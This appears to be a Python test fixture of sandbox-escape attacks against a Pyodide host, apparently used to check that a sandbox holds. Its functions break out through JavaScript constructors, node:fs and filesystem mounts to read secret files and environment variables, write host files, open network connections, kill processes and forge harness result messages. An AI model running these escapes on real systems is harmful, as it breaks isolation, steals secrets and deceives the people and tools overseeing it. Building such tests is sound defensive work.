"""Attacks on the host of a Pyodide: each takes what it is told of the host, and reaches for it in one way."""

import os
import socket


def process():
    import pyodide_js

    return pyodide_js._module.constructor.constructor("return process")()


def read_plainly(target):
    return open(target["secretFile"]).read()


def read_through_globals(target):
    import js

    return js.process.getBuiltinModule("node:fs").readFileSync(target["secretFile"], "utf8")


def read_through_required_modules(target):
    import js

    return js.require("node:fs").readFileSync(target["secretFile"], "utf8")


def read_through_run_js(target):
    from pyodide.code import run_js

    return run_js("process").getBuiltinModule("node:fs").readFileSync(target["secretFile"], "utf8")


def read_through_constructor(target):
    return process().getBuiltinModule("node:fs").readFileSync(target["secretFile"], "utf8")


def read_through_async_constructor(target):
    import pyodide_js

    make = pyodide_js.loadPackage.constructor
    return make("return process.getBuiltinModule('node:fs').readFileSync('" + target["secretFile"] + "', 'utf8')")()


def mount_and_read(target):
    import pyodide_js

    pyodide_js.mountNodeFS("/host", target["folder"])
    return open("/host/secret.txt").read()


def mount_by_hand_and_read(target):
    import pyodide_js
    from pyodide.ffi import to_js

    files = pyodide_js.FS
    files.mkdir("/other")
    files.mount(files.filesystems.NODEFS, to_js({"root": target["folder"]}, dict_converter=pyodide_js._module.constructor.fromEntries), "/other")
    return open("/other/secret.txt").read()


def mount_and_write(target):
    import pyodide_js

    pyodide_js.mountNodeFS("/written", target["folder"])
    return open("/written/written-by-mount.txt", "w").write("x")


def write_through_shell(target):
    return os.system("echo x > " + target["folder"] + "/written-by-shell.txt")


def write_through_constructor(target):
    process().getBuiltinModule("node:fs").writeFileSync(target["folder"] + "/written-by-constructor.txt", "x")


def environment_plainly(target):
    return dict(os.environ)


def environment_through_constructor(target):
    return process().env.KAMACHIQ_TEST_SECRET


def connect_socket(target):
    with socket.create_connection(("127.0.0.1", target["port"]), timeout=2) as connection:
        return connection.send(b"GET / HTTP/1.0\r\n\r\n")


def connect_url(target):
    from urllib.request import urlopen

    return urlopen(f"http://127.0.0.1:{target['port']}/", timeout=2).read().decode()


def connect_fetch(target):
    import js

    return str(js.fetch(f"http://127.0.0.1:{target['port']}/"))


def connect_web_socket(target):
    import js

    return str(js.WebSocket.new(f"ws://127.0.0.1:{target['port']}/"))


def connect_through_constructor(target):
    return str(process().getBuiltinModule("node:net").connect(target["port"], "127.0.0.1"))


def connect_through_node_sockets(target):
    import pyodide_js

    pyodide_js.useNodeSockFS()
    return connect_socket(target)


def fetch_package(target):
    import pyodide_js

    return str(pyodide_js.loadPackage(f"http://127.0.0.1:{target['port']}/x-1.0-py3-none-any.whl"))


def find_global_functions(target):
    """Walks every JavaScript object within reach and names those that would lead out."""
    import pyodide_js
    from pyodide.ffi import JsProxy

    reflect = pyodide_js._module.constructor
    waiting, seen, found = [("pyodide_js", pyodide_js)], set(), []
    while waiting and len(seen) < 1500:
        path, item = waiting.pop(0)
        if item.js_id in seen:
            continue
        seen.add(item.js_id)
        try:
            names = set(reflect.getOwnPropertyNames(item))
        except Exception:
            continue
        if {"pid", "env"} <= names or "readFileSync" in names or "spawnSync" in names or {"setTimeout", "Object"} <= names:
            found.append(path)
        for name in sorted(names)[:60]:
            try:
                held = reflect.getOwnPropertyDescriptor(item, name).value
                if isinstance(held, JsProxy):
                    waiting.append((path + "." + name, held))
            except Exception:
                pass
    return found


def start_worker(target):
    process().getBuiltinModule("node:worker_threads").Worker.new("require('fs')")
    return "started"


def forge_answer(target):
    line = b'{"token":"","observation":{"status":"returned","value":"forged","stdout":""}}\n'
    for descriptor in range(3, 20):
        try:
            os.write(descriptor, line)
        except OSError:
            pass
    return "honest"


def forge_through_constructor(target):
    process().getBuiltinModule("node:fs").writeSync(3, '{"observation":"forged"}\n')
    return "forged"


def kill_plainly(target):
    os.kill(target["pid"], 9)


def kill_through_constructor(target):
    return process().kill(target["pid"], "SIGKILL")
